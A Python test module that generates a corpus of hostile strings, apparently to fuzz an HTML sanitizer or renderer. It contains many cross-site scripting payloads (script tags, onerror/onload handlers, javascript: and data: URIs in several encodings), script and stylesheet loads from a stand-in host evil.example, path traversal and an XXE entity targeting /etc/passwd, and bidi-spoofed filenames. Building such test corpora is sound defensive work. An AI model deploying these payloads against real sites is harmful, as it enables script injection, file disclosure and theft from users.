"""Texts that mean harm: the well-known list, and generators of each kind in many spellings."""

import itertools
import json
from collections.abc import Iterator, Mapping
from html import escape
from pathlib import Path
from typing import Final
from urllib.parse import quote

from tests.hostile import lists
from tests.hostile.logs import COMMANDS

FLAG: Final = "miz_pwned"
"""The name that a script sets on the window if it runs."""
_LIST: Final = Path(__file__).parent.parent / "data" / "naughty_strings.json"
_RUN: Final = f"window.{FLAG}=1"
_CALLS: Final = (_RUN, "alert(1)", f"self['{FLAG}']=1", f"{FLAG}=`1`")
_ENDS: Final = ("", '"', "'", "`", '">', "'>", ">", '" ', "' ", "/>", '"/>', "\n", "\\", '\\"')
_CLOSERS: Final = (
    *("</title>", "</script>", "</style>", "</textarea>", "</select>", "</option>", "</table>"),
    *("</svg>", "</bdi>", "</a>", "</details>", "-->", "]]>", "*/", "</desc>", "</main></body>"),
)
_ELEMENTS: Final = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script\x0c>{}</script\n>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<IMG SRC=x OnErRoR\n=\n{}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math href='javascript:{}'>x</math>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button form=x formaction='javascript:{}'>x</button>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<video><source onerror={}>",
    "<a href='javascript:{}' autofocus tabindex=1 onfocus={}>x</a>",
    "<p style='background:url(javascript:{})'>",
    "<marquee onstart={}>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u02bascript\u02ba><script>{}</script>",
)
_ATTRIBUTES: Final = (
    "onmouseover={}",
    "onfocus={} autofocus",
    "style=animation-name:x onanimationstart={}",
    "style='x:expression({})'",
    "href=javascript:{}",
    "srcdoc='<script>{}</script>'",
    "data-x=y accesskey=x onclick={}",
    "id=x name=cookie",
    "/onload={}",
)
_SCHEMES: Final = ("javascript:", "vbscript:", "data:text/html,", "data:image/svg+xml;base64,")
_OTHERS: Final = ("file:///etc/passwd", "blob:x", "ftp://x", "ws://x", "intent://x", "ms-word:x")
_INSIDE: Final = ("\t", "\n", "\r", "\x00", "\x01", "\u200b", "\u00ad", "\u202e", "\ufeff")
_BEFORE: Final = (" ", "\n", "\x01", "\x1f", "\u00a0", "\u2028", "\ufeff", "\u202e", "//", "\\")
_MARKS: Final = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def spelled(call: str) -> Iterator[str]:
    """One call as browsers read it: plain, in references, in escapes."""
    yield call
    yield "".join(f"&#{ord(sign)};" for sign in call)
    yield "".join(f"&#x{ord(sign):x}" for sign in call)
    yield "".join(f"\\u{ord(sign):04x}" for sign in call)
    yield quote(call, safe="")


def markup() -> Iterator[str]:
    """Elements that run something, behind whatever may have to be closed before."""
    ends = itertools.cycle((*_ENDS, *_CLOSERS))
    calls = itertools.cycle(_CALLS)
    for element in _ELEMENTS:
        made = element.replace("{}", next(calls))
        yield from (made, next(ends) + made, escape(made), quote(made), made.upper())
    for closer in _CLOSERS:
        yield from (closer, f"{closer}<script>{_RUN}</script>")


def attributes() -> Iterator[str]:
    """Ways out of a quoted attribute into another one."""
    for end, attribute in itertools.product(_ENDS, _ATTRIBUTES[:3]):
        yield f"{end} {attribute.format(_RUN)} x={end}"
    for attribute, call in itertools.product(_ATTRIBUTES, spelled(_RUN)):
        yield f'x" {attribute.format(call)}'


def addresses() -> Iterator[str]:
    """Addresses that run, that lead elsewhere than they say, or that carry more than one line."""
    yield from (*lists.HOSTS, *_OTHERS)
    for scheme in _SCHEMES:
        yield from (scheme, scheme + _RUN, scheme.upper() + _RUN, scheme.title() + _RUN)
        yield from (before + scheme + _RUN for before in _BEFORE)
        yield from (f"{scheme[:4]}{inside}{scheme[4:]}{_RUN}" for inside in _INSIDE)
        yield from (
            f"{scheme[:-1]}{colon}{_RUN}" for colon in ("&colon;", "&#58;", "%3a", "\uff1a")
        )
    yield from (f"javascript://a.ir/%0a{_RUN}", f"https://a.ir/?x=javascript:{_RUN}")


def styles() -> Iterator[str]:
    """Ways into a style sheet."""
    yield from ("</style><script>x</script>", "x;}*{background:url(//evil.example)}", "}/*", "*/{")
    yield from (f"expression({_RUN})", "\\65xpression(x)", "url('javascript:x')", "@import'//x'")
    yield from (
        "--x:{",
        "behavior:url(x.htc)",
        "-moz-binding:url(x)",
        "\\22 \\27 \\3c",
        "content:'",
    )


def directions() -> Iterator[str]:
    """Marks that turn text round, alone, open, closed, and in a name."""
    for mark in _MARKS:
        yield from (mark, f"{mark}abc", f"gov{mark}ir", f"\u0641\u0631\u0645{mark}fdp.exe")
    yield "\u202e" * 200


def controls() -> Iterator[str]:
    """Characters that are not text: controls, halves of characters, noncharacters, marks."""
    for number in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"a{chr(number)}b"
    for sign in ("\ud800", "\udfff", "\udc00\ud800", "\ufeff", "\ufffe", "\uffff", "\ufdd0"):
        yield from (sign, f"a{sign}b<")
    yield from (
        "\U0001fffe",
        "\U0010ffff",
        "\ufff9x\ufffay\ufffb",
        "\u2028",
        "\u2029",
        "\U000e0041",
    )


def paths() -> Iterator[str]:
    """Ways out of a folder."""
    yield from lists.ABSOLUTE
    for step in lists.UPWARD:
        yield from (step, f"{step * 6}etc/passwd", f"files/{step}agency.yaml")


def long() -> Iterator[str]:
    """Runs without an end, and nesting without a bottom."""
    for sign in ("a", "ا", "9", "<", "&", '"', "\u0301", "😀", ".", "٪", "-"):
        yield sign * 3000
    for opened, closed in (("<b>", "</b>"), ("(", ")"), ("[", "]"), ("{{", "}}"), ("«", "»")):
        yield opened * 400 + closed * 400
    yield from (
        "<div>" * 1000,
        "&amp;" * 1000,
        "a " * 1500,
        "\n" * 2000 + "x",
        "1," * 1500,
        "ا ۱ a " * 500,
    )


KINDS: Final[Mapping[str, tuple[str, ...]]] = {
    "known": tuple(dict.fromkeys(json.loads(_LIST.read_text("utf-8")))),
    "markup": tuple(markup()),
    "attributes": tuple(attributes()),
    "addresses": tuple(addresses()),
    "styles": tuple(styles()),
    "directions": tuple(directions()),
    "controls": tuple(controls()),
    "templates": lists.TEMPLATES,
    "paths": tuple(paths()),
    "lines": lists.LINES,
    "formulas": lists.FORMULAS,
    "commands": COMMANDS,
    "yaml": lists.YAML,
    "mixed": lists.MIXED,
    "long": tuple(long()),
}
"""Every hostile text by its kind."""
STRINGS: Final = tuple(dict.fromkeys(text for kind in KINDS.values() for text in kind))
"""Every hostile text once."""


def packed(size: int) -> tuple[str, ...]:
    """The same texts, *size* of them in each, a line apart."""
    return tuple("\n".join(STRINGS[at : at + size]) for at in range(0, len(STRINGS), size))


def some(every: int) -> tuple[str, ...]:
    """Each so-many-th text of every kind, at least one of each."""
    return tuple(dict.fromkeys(text for kind in KINDS.values() for text in kind[::every]))
